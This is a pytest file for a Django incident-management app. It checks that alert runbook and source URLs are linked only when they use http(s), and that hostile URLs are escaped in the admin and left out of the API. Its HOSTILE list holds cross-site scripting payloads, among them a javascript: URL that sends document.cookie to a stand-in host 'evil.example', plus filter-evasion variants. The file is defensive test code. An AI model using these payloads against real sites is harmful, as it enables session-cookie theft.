"""URLs that senders put in alerts (``runbook_url`` annotations, Alertmanager's
``generatorURL``) become links only when they are http(s): a ``javascript:`` URL is
plain text in the admin and is left out of the API's ``runbook_urls``."""

import pytest
from django.test import Client
from rest_framework.test import APIClient

from incidents.ingest.types import AlertGroup, IncomingAlert
from incidents.services.alerts import alerts_ingest
from tests.factories import ServiceFactory, UserFactory, make_integration

pytestmark = pytest.mark.django_db

HOSTILE = [
    "javascript:alert(document.cookie)",
    "JavaScript:fetch('//evil.example/'+document.cookie)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]
GOOD_RUNBOOK = "https://runbooks.example.com/checkout"
GOOD_SOURCE = "http://prometheus:9090/graph?g0.expr=up"


def ingest(service, alerts):
    integration, _ = make_integration("alertmanager", service=service)
    [outcome] = alerts_ingest(
        integration=integration,
        groups=[AlertGroup(key="g", title="Checkout down", alerts=alerts)],
    )
    return outcome.incident


def alert(number, runbook, source):
    return IncomingAlert(
        fingerprint=f"f{number}",
        status="firing",
        summary=f"alert {number}",
        severity_value="critical",
        annotations={"runbook_url": runbook},
        source_url=source,
    )


@pytest.fixture
def incident():
    service = ServiceFactory(runbook_url="https://runbooks.example.com/service")
    alerts = [alert(n, url, url) for n, url in enumerate(HOSTILE)]
    alerts.append(alert(len(HOSTILE), GOOD_RUNBOOK, GOOD_SOURCE))
    return ingest(service, alerts)


def test_the_api_returns_only_http_runbook_urls(incident):
    client = APIClient()
    client.force_authenticate(UserFactory(roles=["Viewer"]))

    body = client.get(f"/api/incidents/{incident.pk}").json()

    assert sorted(body["runbook_urls"]) == [
        GOOD_RUNBOOK,
        "https://runbooks.example.com/service",
    ]


def test_the_admin_links_only_http_urls(incident):
    client = Client()
    client.force_login(UserFactory(roles=["Viewer"]))

    html = client.get(f"/admin/incidents/incident/{incident.pk}/change/").content.decode()

    assert f'href="{GOOD_RUNBOOK}"' in html
    assert f'href="{GOOD_SOURCE.replace("&", "&amp;")}"' in html
    assert 'href="javascript' not in html.lower()
    assert 'href=" javascript' not in html.lower()
    assert 'href="java\tscript' not in html.lower()
    assert 'href="data:' not in html
    # Shown as text, escaped.
    assert "javascript:alert(document.cookie)" in html
    assert "<script>alert(1)</script>" not in html
